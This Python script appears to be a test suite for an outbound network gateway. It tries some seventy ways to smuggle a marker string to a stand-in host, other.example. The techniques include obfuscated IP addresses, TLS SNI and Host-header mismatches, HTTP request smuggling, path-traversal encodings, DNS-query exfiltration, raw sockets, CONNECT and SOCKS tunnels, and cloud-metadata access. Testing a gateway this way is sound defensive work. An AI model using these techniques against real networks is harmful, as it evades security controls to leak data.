"""What somebody inside tries against the gateway. Each takes a mark that must not arrive anywhere: `network.py NAME MARK`."""
import base64, gzip, os, socket, ssl, struct, subprocess, sys

API, OTHER = ("api.example", 80), ("other.example", 80)
mark = sys.argv[2] if len(sys.argv) > 2 else ""
blind = ssl.create_default_context()
blind.check_hostname, blind.verify_mode = False, ssl.CERT_NONE


def say(to, *parts, read=True):
    """Connects, sends each part, and reads what comes."""
    with socket.create_connection(to, 5) as connection:
        for part in parts:
            connection.sendall(part if isinstance(part, bytes) else part.encode())
        return listen(connection) if read else b""


def listen(connection):
    connection.settimeout(1)
    heard = b""
    try:
        while data := connection.recv(65536):
            heard += data
    except OSError:
        pass
    return heard


def tls(to, name, *parts, alpn=None):
    context = blind
    if alpn:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(alpn)
    with socket.create_connection(to, 5) as plain, context.wrap_socket(plain, server_hostname=name) as connection:
        for part in parts:
            connection.sendall(part if isinstance(part, bytes) else part.encode())
        return listen(connection)


def get(host, path, *headers):
    return "".join(["GET %s HTTP/1.1\r\nHost: %s\r\n" % (path, host), *(h + "\r\n" for h in headers), "\r\n"])


def via_proxy(target, *parts, proxy=("127.0.0.1", 3128)):
    with socket.create_connection(proxy, 5) as connection:
        connection.sendall(b"CONNECT %s HTTP/1.1\r\n\r\n" % target.encode())
        connection.recv(4096)
        for part in parts:
            connection.sendall(part.encode())
        return listen(connection)


def socks(address, *parts):
    with socket.create_connection(("127.0.0.1", 3128), 5) as connection:
        connection.sendall(b"\x05\x01\x00")
        connection.recv(2)
        connection.sendall(b"\x05\x01\x00\x01" + socket.inet_aton(address) + struct.pack(">H", 80))
        connection.recv(10)
        for part in parts:
            connection.sendall(part.encode())
        return listen(connection)


def curl(*arguments):
    subprocess.run(["curl", "-sk", "--max-time", "5", *arguments], stdout=subprocess.DEVNULL)


def udp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(mark.encode(), address)


def query(server, kind=1, stream=False):
    name = b"".join(bytes([len(part)]) + part for part in (mark + ".other.example").encode().split(b"."))
    message = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\0" + struct.pack(">HH", kind, 1)
    if stream:
        return say((server, 53), struct.pack(">H", len(message)) + message)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(2)
        one.sendto(message, (server, 53))
        try:
            one.recv(512)
        except OSError:
            pass


def fast_open():
    with socket.socket() as one:
        one.sendto(get("other.example", "/" + mark).encode(), 0x20000000, ("93.184.1.1", 80))
        listen(one)


def protocol(number):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, number) as one:
        one.settimeout(5)
        one.connect(("93.184.1.1", 80))
        one.sendall(get("other.example", "/" + mark).encode())
        listen(one)


def raw():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as one:
        header = struct.pack(">HHHH", 40000, 443, 8 + len(mark), 0)
        one.sendto(header + mark.encode(), ("93.184.1.1", 0))


def websocket_then_request():
    upgrade = get("api.example", "/ok/s", "Connection: Upgrade", "Upgrade: h2c", "HTTP2-Settings: AAAA")
    say(API, upgrade + get("api.example", "/" + mark))


HOSTS = {
    "another host": lambda: say(OTHER, get("other.example", "/" + mark)),
    "another host by TLS": lambda: tls(("other.example", 443), "other.example", get("other.example", "/" + mark)),
    "its address": lambda: say(("93.184.1.1", 80), get("other.example", "/" + mark)),
    "its address by IPv6": lambda: say(("2600:1f00::1", 80), get("other.example", "/" + mark)),
    "its address as a number": lambda: curl("http://1572339969/" + mark),
    "its address in octal": lambda: curl("http://0135.0270.01.01/" + mark),
    "its address in hexadecimal": lambda: curl("http://0x5db80101/" + mark),
    "its address in IPv6 clothes": lambda: say(("::ffff:93.184.1.1", 80), get("other.example", "/" + mark)),
    "the address of an allowed host": lambda: tls(("93.184.1.1", 443), "api.example", get("api.example", "/ok/" + mark)),
    "another name in TLS": lambda: tls(("api.example", 443), "other.example", get("other.example", "/ok/" + mark)),
    "another name in a request in TLS": lambda: tls(("api.example", 443), "api.example", get("other.example", "/ok/" + mark)),
    "no name in TLS, another in the request": lambda: tls(("api.example", 443), None, get("other.example", "/ok/" + mark)),
    "another host in the request": lambda: say(API, get("other.example", "/ok/" + mark)),
    "two hosts in the request": lambda: say(API, get("api.example", "/ok/" + mark, "Host: other.example")),
    "a host with a port that is not ours": lambda: say(API, get("api.example:8080", "/ok/" + mark)),
    "a host with a user": lambda: say(API, get("other.example@api.example", "/ok/" + mark)),
    "a host that goes on": lambda: say(API, get("api.example.other.example", "/ok/" + mark)),
    "no host": lambda: say(API, "GET /ok/%s HTTP/1.1\r\n\r\n" % mark),
    "a URL for another host": lambda: say(API, get("api.example", "http://other.example/ok/" + mark)),
    "another host in the second request": lambda: say(API, get("api.example", "/ok/a") + get("other.example", "/ok/" + mark)),
    "a name that changes its address": lambda: [say(("rebind.example", 80), get("rebind.example", "/" + mark)) for _ in range(4)],
    "the cloud's metadata": lambda: say(("169.254.169.254", 80), get("169.254.169.254", "/" + mark)),
    "a private address": lambda: say(("10.1.2.3", 80), get("10.1.2.3", "/" + mark)),
}
REQUESTS = {
    "another path": lambda: say(API, get("api.example", "/" + mark)),
    "another path by TLS": lambda: tls(("api.example", 443), "api.example", get("api.example", "/" + mark)),
    "another method": lambda: say(API, "DELETE /ok/%s HTTP/1.1\r\nHost: api.example\r\n\r\n" % mark),
    "a path that climbs": lambda: say(API, get("api.example", "/ok/../" + mark)),
    "a path that climbs in disguise": lambda: say(API, get("api.example", "/ok/%2e%2e/" + mark)),
    "a path with an encoded slash": lambda: say(API, get("api.example", "/ok/..%2f" + mark)),
    "a path with a backslash": lambda: say(API, get("api.example", "/ok/..\\" + mark)),
    "another method in a header": lambda: say(API, get("api.example", "/ok/" + mark, "X-HTTP-Method-Override: DELETE")),
    "another path in a header": lambda: say(API, get("api.example", "/ok/a", "X-Original-URL: /" + mark)),
    "a second request": lambda: say(API, get("api.example", "/ok/a") + get("api.example", "/" + mark)),
    "a length and chunks": lambda: say(
        API,
        "POST /ok/a HTTP/1.1\r\nHost: api.example\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        + get("api.example", "/" + mark),
    ),
    "chunks in disguise": lambda: say(
        API,
        "POST /ok/a HTTP/1.1\r\nHost: api.example\r\nTransfer-Encoding: gzip\r\n\r\n" + get("api.example", "/" + mark),
    ),
    "two lengths": lambda: say(
        API,
        "POST /ok/a HTTP/1.1\r\nHost: api.example\r\nContent-Length: 0\r\nContent-Length: 50\r\n\r\n"
        + get("api.example", "/" + mark),
    ),
    "a length with a sign": lambda: say(
        API, "POST /ok/a HTTP/1.1\r\nHost: api.example\r\nContent-Length: +0\r\n\r\n" + get("api.example", "/" + mark)
    ),
    "a header over two lines": lambda: say(
        API, "GET /ok/a HTTP/1.1\r\nHost: api.example\r\nX: a\r\n GET /%s HTTP/1.1\r\n\r\n" % mark
    ),
    "a line's end that is none": lambda: say(API, "GET /ok/a HTTP/1.1\nHost: api.example\n\nGET /%s HTTP/1.1\nHost: api.example\n\n" % mark),
    "a request in lower case": lambda: say(API, "get /%s HTTP/1.1\r\nHost: api.example\r\n\r\n" % mark),
    "a request after an empty line": lambda: say(API, "\r\n" + get("api.example", "/" + mark)),
    "HTTP/0.9": lambda: say(API, "GET /%s\r\n" % mark),
    "something else than HTTP": lambda: say(API, "\0" + mark),
    "another protocol after the check": websocket_then_request,
    "a request in a body": lambda: say(
        API, "POST /ok/a HTTP/1.1\r\nHost: api.example\r\nContent-Length: 5\r\n\r\nhello" + get("api.example", "/" + mark)
    ),
}
ROADS = {
    "a datagram": lambda: udp(("93.184.1.1", 443)),
    "a question for a name": lambda: socket.getaddrinfo(mark + ".other.example", 80),
    "a question to a resolver": lambda: query("93.184.1.1"),
    "a question of another kind": lambda: query("93.184.1.1", 16),
    "a question by TCP": lambda: query("93.184.1.1", 1, True),
    "data with the first packet": fast_open,
    "SCTP": lambda: protocol(132),
    "MPTCP": lambda: protocol(262),
    "a raw socket": raw,
    "this machine's loopback": lambda: say(("127.0.0.1", 80), get("127.0.0.1", "/" + mark)),
    "this machine by another name": lambda: say(("0.0.0.0", 80), get("127.0.0.1", "/" + mark)),
    "this machine by its name": lambda: say(("loopback.example", 80), get("loopback.example", "/" + mark)),
}
PROXY = {
    "this machine's loopback by a tunnel": lambda: via_proxy("127.0.0.1:80", get("127.0.0.1", "/" + mark)),
    "this machine by name by a tunnel": lambda: via_proxy("localhost:80", get("localhost", "/" + mark)),
    "another host by a tunnel": lambda: via_proxy("other.example:80", get("other.example", "/" + mark)),
    "another host in a tunnel": lambda: via_proxy("api.example:80", get("other.example", "/ok/" + mark)),
    "a tunnel in a tunnel": lambda: via_proxy("api.example:80", "CONNECT other.example:80 HTTP/1.1\r\n\r\n" + get("other.example", "/" + mark)),
    "another host in a proxy's second request": lambda: say(
        ("127.0.0.1", 3128), get("api.example", "http://api.example/ok/a") + get("other.example", "http://other.example/" + mark)
    ),
    "this machine by SOCKS": lambda: socks("127.0.0.1", get("127.0.0.1", "/" + mark)),
    "another host by SOCKS": lambda: socks("93.184.1.1", get("other.example", "/" + mark)),
}
ALL = {**HOSTS, **REQUESTS, **ROADS, **PROXY}

if sys.argv[1] == "list":
    print("\n".join(ALL))
else:
    try:
        ALL[sys.argv[1]]()
    except OSError as error:
        print(error)
    print("tried")
